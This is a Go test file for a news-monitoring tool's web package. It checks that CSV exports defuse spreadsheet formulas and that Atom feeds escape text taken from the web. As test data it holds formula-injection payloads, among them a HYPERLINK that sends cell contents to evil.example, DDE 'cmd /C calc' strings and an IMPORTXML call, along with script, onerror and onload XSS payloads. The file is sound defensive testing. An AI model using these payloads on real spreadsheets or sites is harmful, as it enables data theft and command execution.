package web

import (
	"context"
	"encoding/csv"
	"encoding/xml"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/minewatch/minewatch/index"
	"github.com/minewatch/minewatch/news"
)

// hostileSearcher answers every search with one article whose web-sourced
// fields are title, text and snippet given, and saves nothing.
type hostileSearcher struct{ doc news.Document }

func (h hostileSearcher) Search(context.Context, index.Query) (index.Hits, error) {
	return index.Hits{Total: 1, Docs: []index.Hit{{Document: h.doc, Score: 1.5,
		Snippet: []index.Fragment{{Text: h.doc.Text[:10]}, {Text: h.doc.Text[10:], Match: true}}}}}, nil
}

func (h hostileSearcher) Get(context.Context, string) (news.Document, error) { return h.doc, nil }

// oneSaved is a SearchSaver holding a single saved search.
type oneSaved struct{ ss index.SavedSearch }

func (o oneSaved) SaveSearch(context.Context, index.SavedSearch) error { return nil }
func (o oneSaved) SavedSearches(context.Context) ([]index.SavedSearch, error) {
	return []index.SavedSearch{o.ss}, nil
}
func (o oneSaved) DeleteSearch(context.Context, string) error { return index.ErrNotFound }

func hostileDoc(title, text, url string) news.Document {
	return news.Document{Article: news.Article{ID: "evil", SourceID: "evil", URL: url, Title: title, Text: text,
		Published: time.Date(2025, 11, 30, 10, 0, 0, 0, time.UTC), FirstSeen: time.Date(2025, 11, 30, 10, 5, 0, 0, time.UTC)},
		Classification: news.Classification{Relevant: true, Topics: []news.TopicScore{{Topic: news.TopicTreatyWithdrawal, Score: 1}}}}
}

func get(t *testing.T, srv http.Handler, path string) (*http.Response, string) {
	t.Helper()
	hs := httptest.NewServer(srv)
	t.Cleanup(hs.Close)
	resp, err := hs.Client().Get(hs.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %s: %s", path, resp.Status, b)
	}
	return resp, string(b)
}

func TestCSVExportDefusesFormulas(t *testing.T) {
	tests := []struct {
		name, title, url, wantTitle string
	}{
		{"equals", `=HYPERLINK("https://evil.example/?"&A1,"click")`, "https://evil.example/a", `'=HYPERLINK("https://evil.example/?"&A1,"click")`},
		{"plus", `+cmd|' /C calc'!A0`, "https://evil.example/b", `'+cmd|' /C calc'!A0`},
		{"minus", `-2+3+cmd|' /C calc'!A0`, "https://evil.example/c", `'-2+3+cmd|' /C calc'!A0`},
		{"at", `@SUM(1+9)*cmd|' /C calc'!A0`, "https://evil.example/d", `'@SUM(1+9)*cmd|' /C calc'!A0`},
		{"tab before a formula", "\t=1+1", "https://evil.example/e", "'=1+1"},
		{"carriage return before a formula", "\r=1+1", "https://evil.example/f", "'=1+1"},
		{"formula as URL", "Plain title", `=IMPORTXML("https://evil.example","//a")`, "Plain title"},
		{"quotes and commas", `Poland, "mines" and =1+1`, "https://evil.example/g", `Poland, "mines" and =1+1`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			srv, err := New(Options{Searcher: hostileSearcher{hostileDoc(tc.title, "Landmines and the Ottawa treaty.", tc.url)}})
			if err != nil {
				t.Fatal(err)
			}
			_, body := get(t, srv, "/export.csv?q=ottawa")
			rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
			if err != nil {
				t.Fatalf("the export is not valid CSV: %v\n%s", err, body)
			}
			if len(rows) != 2 {
				t.Fatalf("%d rows, want header and one article:\n%s", len(rows), body)
			}
			for i, cell := range rows[1] {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("column %s starts a formula: %q", rows[0][i], cell)
				}
			}
			if got := rows[1][5]; got != tc.wantTitle {
				t.Errorf("title cell %q, want %q", got, tc.wantTitle)
			}
		})
	}
}

func TestAtomFeedEscapesWebText(t *testing.T) {
	payload := `<script>window.__pwned=1</script> <img src=x onerror="window.__pwned=2"> "><svg onload=window.__pwned=3> ]]> &amp; & <![CDATA[x]]>`
	ss := index.SavedSearch{ID: "evil", Name: "Saved " + payload, Query: index.Query{Text: "ottawa"},
		Created: time.Date(2025, 11, 1, 0, 0, 0, 0, time.UTC)}
	srv, err := New(Options{Searcher: hostileSearcher{hostileDoc("Title "+payload, "Body text "+payload, "https://evil.example/x")},
		Saved: oneSaved{ss}})
	if err != nil {
		t.Fatal(err)
	}
	resp, body := get(t, srv, "/saved/evil.atom")
	if ct := resp.Header.Get("Content-Type"); !strings.Contains(ct, "atom+xml") {
		t.Errorf("Content-Type %q", ct)
	}
	var feed struct {
		Title   string `xml:"title"`
		Entries []struct {
			Title struct {
				Type string `xml:"type,attr"`
				Text string `xml:",chardata"`
			} `xml:"title"`
			Summary struct {
				Type string `xml:"type,attr"`
				Text string `xml:",chardata"`
			} `xml:"summary"`
			Inner []struct {
				XMLName xml.Name
			} `xml:",any"`
		} `xml:"entry"`
	}
	if err := xml.Unmarshal([]byte(body), &feed); err != nil {
		t.Fatalf("the feed is not well-formed XML: %v\n%s", err, body)
	}
	if feed.Title != "minewatch: Saved "+payload {
		t.Errorf("feed title %q, want the saved name as text", feed.Title)
	}
	if len(feed.Entries) != 1 {
		t.Fatalf("%d entries, want 1", len(feed.Entries))
	}
	e := feed.Entries[0]
	tests := []struct {
		name, typ, text, want string
	}{
		{"title", e.Title.Type, e.Title.Text, "Title " + payload},
		{"summary", e.Summary.Type, e.Summary.Text, "Body text " + payload},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			// type="text" tells feed readers not to read it as HTML; the
			// text itself survives the round trip exactly.
			if tc.typ != "text" {
				t.Errorf("type %q, want text", tc.typ)
			}
			if tc.text != tc.want {
				t.Errorf("text %q, want %q", tc.text, tc.want)
			}
		})
	}
	for _, el := range e.Inner {
		switch el.XMLName.Local {
		case "script", "img", "svg":
			t.Errorf("the entry has a <%s> element", el.XMLName.Local)
		}
	}
}
